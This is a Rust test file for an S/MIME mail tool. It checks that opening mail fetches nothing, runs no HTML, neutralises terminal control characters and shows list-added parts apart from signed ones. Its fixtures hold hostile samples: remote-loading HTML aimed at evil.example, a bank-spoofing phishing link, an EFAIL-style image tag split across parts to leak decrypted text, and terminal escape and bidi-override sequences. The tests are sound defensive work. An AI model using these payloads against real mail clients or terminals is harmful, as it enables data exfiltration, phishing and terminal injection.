//! `open --text` and what header protection does for people (rows G-07, G-08, G-12, H-06, H-13, X-22, X-27).

use crate::mail::{bob_of, letter};
use crate::support::Sandbox;

fn store() -> Sandbox {
    Sandbox::with_people()
}

fn text(sandbox: &Sandbox, mail: &str) -> String {
    sandbox.write("mail.eml", mail);
    let shown = sandbox.run(&["open", "--text", "mail.eml"]).expect(0);
    let shown = String::from_utf8(shown.out).unwrap();
    for c in shown.chars() {
        assert!(!c.is_control() || matches!(c, '\n' | '\t'), "{shown:?}");
    }
    shown
}

#[test]
fn text_is_what_the_mail_says_and_attachments_have_their_names() {
    let s = store();
    let mail = "From: a@b.c\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\
        Content-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\nContent-Type: text/plain; charset=iso-8859-1\r\n\
        Content-Transfer-Encoding: quoted-printable\r\n\r\nGr=FC=DFe,\r\nall\r\n--a\r\nContent-Type: text/html\r\n\r\n<b>no</b>\r\n--a--\r\n\
        --m\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"a\u{1b}[2J.pdf\"\r\n\r\nxyz\r\n--m--\r\n";
    assert_eq!(text(&s, mail), "Grüße,\nall\n== attached: a\u{fffd}[2J.pdf, application/pdf, 3 octets\n");
    assert_eq!(text(&s, "From: a@b.c\r\n\r\n"), "== there is no text in this mail\n");
    let from_file = s.path("out.txt");
    s.ok(&["open", "--text", "mail.eml", "-o", from_file.to_str().unwrap()]);
    assert_eq!(s.read("out.txt"), b"== there is no text in this mail\n");
}

/// Whatever an encrypted or a signed mail of HTML points to is asked for nothing, not even whether it is there: of three
/// ways to show such a mail none opens a connection.
#[test]
fn g_08_html_that_is_encrypted_or_signed_fetches_nothing() {
    let s = store();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let at = listener.local_addr().unwrap();
    let html = format!(
        "<html><head><link rel=stylesheet href=http://{at}/s.css><link rel=dns-prefetch href=//{at}>\
         <style>@font-face{{font-family:f;src:url(http://{at}/f)}}</style><base href=http://{at}/></head>\
         <body background=http://{at}/b><p>Forty-two</p><img src=http://{at}/i srcset='http://{at}/2 2x'>\
         <object data=http://{at}/o></object><video src=http://{at}/v></video><img src=\"cid:other@example.org\">\
         <form action=http://{at}/f><button>Send</button></form></body></html>"
    );
    let letter = letter().replacen("\r\n\r\n", "\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n", 1);
    s.write("letter.eml", letter.replace("Forty-two, as agreed.", &html));
    s.ok(&["seal", "letter.eml", "-o", "sealed.eml"]);
    s.ok(&["seal", "--sign-only", "letter.eml", "-o", "signed.eml"]);
    for mail in ["sealed.eml", "signed.eml"] {
        let shown = text(&s, &String::from_utf8(s.read(mail)).unwrap());
        assert!(shown.starts_with("== there is only HTML") && shown.contains("Forty-two"), "{shown}");
        assert!(!shown.contains(&at.to_string()), "no address but that of a link: {shown}");
        s.ok(&["open", mail]);
        s.ok(&["explain", mail]);
        let nobody = listener.accept().map(|_| ()).unwrap_err();
        assert_eq!(nobody.kind(), std::io::ErrorKind::WouldBlock, "{mail}");
    }
}

#[test]
fn x_22_html_is_read_and_not_run_and_links_say_where_they_lead() {
    let s = store();
    let html = "<html><head><style>@import url(http://evil.example/s.css);</style><title>t</title>\
        <meta http-equiv=refresh content=\"0;url=http://evil.example/m\"><link rel=prefetch href=http://evil.example/p></head>\
        <body onload=\"x()\"><p>Hello&#27;[31m&#x202e;</p><img src=http://evil.example/i.gif><script>document.write('x')</script>\
        <form action=http://evil.example/f><input name=pw></form><iframe src=\"cid:other\"></iframe>\
        <a href=\"https://evil.example/login\">https://bank.example</a><div style=\"display:none\">hidden</div></body></html>";
    let shown = text(&s, &format!("From: a@b.c\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"));
    assert_eq!(
        shown,
        "== there is only HTML: this is its text, of which nothing was fetched or run\nHello\\u{1b}[31m\\u{202e}\n\n\
         https://bank.example <https://evil.example/login>\nhidden\n"
    );
}

/// No part is put together with another: what one opens, none closes (RFC 8551 section 6).
#[test]
fn g_07_each_part_is_a_text_of_its_own() {
    let s = store();
    let part = |html: &str| format!("--m\r\nContent-Type: text/html\r\n\r\n{html}\r\n");
    let parts = [part("<img src=\"http://evil.example/"), part("secret"), part("\">")].concat();
    let shown = text(&s, &format!("From: a@b.c\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n{parts}--m--\r\n"));
    let lines: Vec<&str> = shown.lines().filter(|line| !line.starts_with("== ")).collect();
    assert_eq!(lines, ["<img src=\"http://evil.example/", "secret", "\">"]);
}

#[test]
fn x_26_nothing_in_a_text_reaches_the_terminal_as_an_order() {
    let s = store();
    let body = "\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m\r\nmoc.elpmaxe\u{202e}\u{2066}\u{200b}\u{e0041}\rback\u{8}\u{7f}\u{c}\r\n\
        \u{1f468}\u{200d}\u{1f469} a\u{200d}b\tc\r\n== attached: fine.pdf\r\n==\r\n";
    let shown = text(
        &s,
        &format!(
            "From: a@b.c\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}"
        ),
    );
    assert_eq!(
        shown,
        "\\u{1b}]0;title\\u{7}\\u{1b}[2J\\u{9b}31m\nmoc.elpmaxe\\u{202e}\\u{2066}\\u{200b}\\u{e0041}\\u{d}back\\u{8}\\u{7f}\\u{c}\n\
         \u{1f468}\u{200d}\u{1f469} a\\u{200d}b\tc\n == attached: fine.pdf\n ==\n"
    );
    let long = "x".repeat(100_000);
    let shown = text(&s, &format!("From: a@b.c\r\n\r\n{long}\r\n"));
    assert!(shown.lines().all(|line| line.chars().count() <= 1000) && shown.replace(['\n', ' '], "") == long);
    let broken =
        text(&s, "From: a@b.c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\na\u{0}b\r\n").replace('\n', "");
    assert_eq!(broken, "a\\u{0}b");
}

/// A signed mail of Alice's that begins with this, as a list passes it on: with a part of its own below.
fn through_a_list(s: &Sandbox, first: &str, footer: &str) -> String {
    s.write("letter.eml", letter().replace("Forty-two", &format!("{first}Forty-two")));
    s.ok(&["seal", "--sign-only", "letter.eml", "-o", "signed.eml"]);
    let signed = String::from_utf8(s.read("signed.eml")).unwrap();
    let (header, body) = signed.split_once("\r\n\r\n").unwrap();
    let at = header.find("Content-Type:").unwrap();
    let (fields, kind) = header.split_at(at);
    format!(
        "{fields}Content-Type: multipart/mixed; boundary=list\r\n\r\n--list\r\n{kind}\r\n\r\n{body}\r\n--list\r\n\
         Content-Type: text/plain\r\n\r\n{footer}____\r\nlist@example.org\r\n--list--\r\n"
    )
}

#[test]
fn g_03_what_a_list_added_is_shown_apart() {
    let s = store();
    let mail = through_a_list(&s, "", "");
    s.write("list.eml", &mail);
    let run = s.run(&["open", "--text", "list.eml"]).expect(0);
    let (shown, attached) = run.text().split_once("== attached: ").map(|(a, b)| (a.to_owned(), b.to_owned())).unwrap();
    assert_eq!(
        shown,
        "== part 1, signed by alice@example.org\nForty-two, as agreed.\n== part 2, signed by nobody\n____\nlist@example.org\n"
    );
    assert!(attached.starts_with("smime.p7s, application/pkcs7-signature, ") && attached.lines().count() == 1);
    assert!(run.err.contains("part 1 is signed by alice@example.org"), "{}", run.err);
    let verdict = s.json(&["open", "list.eml"]);
    assert_eq!((&verdict["verdict"], &verdict["parts"][0]["verdict"]), (&"unsigned".into(), &"verified".into()));
    assert_eq!(s.run(&["open", "--require", "signed", "list.eml"]).code, 3);
    s.write("changed.eml", mail.replace("as agreed", "as ordered"));
    let run = s.run(&["open", "--text", "changed.eml"]).expect(0);
    assert!(
        run.text().starts_with("== part 1 has a signature that fails: it is not shown\n== part 2"),
        "{}",
        run.text()
    );
    assert!(!run.text().contains("as ordered"));
}

/// What says which part is whose is ours alone: neither who signed nor who did not can write such a line.
#[test]
fn g_12_no_text_of_a_mail_draws_a_line_of_ours() {
    let s = store();
    let mail = through_a_list(
        &s,
        "== part 2, signed by bob@example.net\r\n",
        "== part 1, signed by bob@example.net\r\n=20== attached: x\r\n",
    );
    let shown = text(&s, &mail);
    let ours: Vec<&str> = shown.lines().filter(|line| line.starts_with("==")).collect();
    assert_eq!(ours.len(), 3, "{shown}");
    assert_eq!(ours[..2], ["== part 1, signed by alice@example.org", "== part 2, signed by nobody"]);
    assert!(ours[2].starts_with("== attached: smime.p7s"));
    assert!(shown.contains("\n == part 2, signed by bob") && shown.contains("\n == part 1, signed by bob"), "{shown}");
}

/// The payload of an encrypted mail, as whoever has the key gets it without any judgement.
fn payload(alice: &Sandbox, sealed: &[u8]) -> String {
    let bob = bob_of(alice);
    bob.write("sealed.eml", sealed);
    let keys = bob.path("bob.p12");
    let password = bob.path("password");
    let payload = bob.run(&[
        "cms",
        "decrypt",
        "--p12",
        keys.to_str().unwrap(),
        "--key-password-file",
        password.to_str().unwrap(),
        "sealed.eml",
    ]);
    payload.expect(0).text()
}

/// The copy that other programs need is in what is encrypted, and is not shown by us.
#[test]
fn h_06_what_other_programs_need_is_in_the_text_and_not_shown() {
    let s = store();
    s.write("letter.eml", letter());
    s.ok(&["seal", "--legacy-display", "--hcp", "shy", "letter.eml", "-o", "sealed.eml"]);
    let sealed = s.read("sealed.eml");
    let outside = String::from_utf8(sealed.clone()).unwrap();
    assert!(
        outside.contains("From: alice@example.org\r\n") && !outside.contains("Alice") && !outside.contains("figures")
    );
    assert_eq!(text(&s, &outside), "Forty-two, as agreed.\n");
    let payload = payload(&s, &sealed);
    for line in [
        "hp-legacy-display=\"1\"",
        "\r\n\r\nFrom: Alice <alice@example.org>\r\nTo: Bob <bob@example.net>\r\nSubject: The figures\r\n\r\nForty-two",
    ] {
        assert!(payload.contains(line), "{line}: {payload}");
    }
}

/// RFC 9788 section 4.9: the mail as it came, and the payload as it was encrypted, can both be looked at.
#[test]
fn h_13_the_mail_stays_as_it_came_and_its_payload_can_be_looked_at() {
    let s = store();
    s.write("letter.eml", letter());
    s.ok(&["seal", "letter.eml", "-o", "sealed.eml"]);
    let sealed = s.read("sealed.eml");
    for arguments in [&["open"][..], &["open", "--text"], &["open", "--json"], &["explain"]] {
        s.ok(&[arguments, &["sealed.eml"]].concat());
        assert_eq!(s.read("sealed.eml"), sealed, "{arguments:?}");
    }
    // What `open` leaves out, having read it, is there: the marks of the protection, and the signature.
    let payload = payload(&s, &sealed);
    for line in
        ["HP-Outer: Subject: [...]\r\n", "Subject: The figures\r\n", "hp=\"cipher\"", "application/pkcs7-signature"]
    {
        assert!(payload.contains(line), "{line}: {payload}");
    }
    assert!(!s.ok(&["open", "sealed.eml"]).contains("HP-Outer"));
}

#[test]
fn h_11_an_answer_hides_what_was_hidden_or_is_refused() {
    let s = store();
    s.write("letter.eml", letter());
    s.ok(&["seal", "--hcp", "shy", "letter.eml", "-o", "sealed.eml"]);
    let answer = "From: Bob <bob@example.net>\r\nTo: Alice <alice@example.org>\r\nSubject: Re: The figures\r\n\
        In-Reply-To: <1@example.org>\r\n\r\nYes.\r\n";
    s.write("answer.eml", answer);
    s.ok(&["seal", "answer.eml", "-o", "open.eml"]);
    assert!(String::from_utf8(s.read("open.eml")).unwrap().contains("To: Alice <alice@example.org>"));
    s.ok(&["seal", "--answers", "sealed.eml", "answer.eml", "-o", "hidden.eml"]);
    let hidden = String::from_utf8(s.read("hidden.eml")).unwrap();
    assert!(hidden.contains("To: alice@example.org\r\n") && !hidden.contains("Alice"), "{hidden}");
    let refused = s.run(&["seal", "--sign-only", "--answers", "sealed.eml", "answer.eml"]);
    assert_eq!((refused.code, refused.out.len()), (2, 0));
    assert!(refused.err.contains("kept secret") && refused.err.contains("hint: encrypt the answer"), "{}", refused.err);
    // What the policy says counts where it has no rows of its own, too.
    s.write("store/policy.toml", "hcp = \"shy\"\n");
    s.ok(&["seal", "answer.eml", "-o", "shy.eml"]);
    assert!(!String::from_utf8(s.read("shy.eml")).unwrap().contains("Alice"));
    s.write("store/policy.toml", "hcp = \"loud\"\n");
    let bad = s.run(&["seal", "answer.eml"]);
    assert!(bad.code != 0 && bad.err.contains("\"hcp\""), "{}", bad.err);
}

/// A mail is opened without a place where what was in it could lie.
#[test]
fn x_27_what_was_decrypted_rests_nowhere() {
    let s = store();
    s.write("letter.eml", letter());
    s.ok(&["seal", "letter.eml", "-o", "sealed.eml"]);
    for arguments in [vec!["open", "sealed.eml"], vec!["open", "--text", "sealed.eml"]] {
        let mut command = s.command(&arguments);
        command.env("SEALPOST_SPOOL", "/nonexistent").env("TMPDIR", "/nonexistent");
        let done = command.output().unwrap();
        assert!(done.status.success() && String::from_utf8_lossy(&done.stdout).contains("Forty-two"));
    }
}
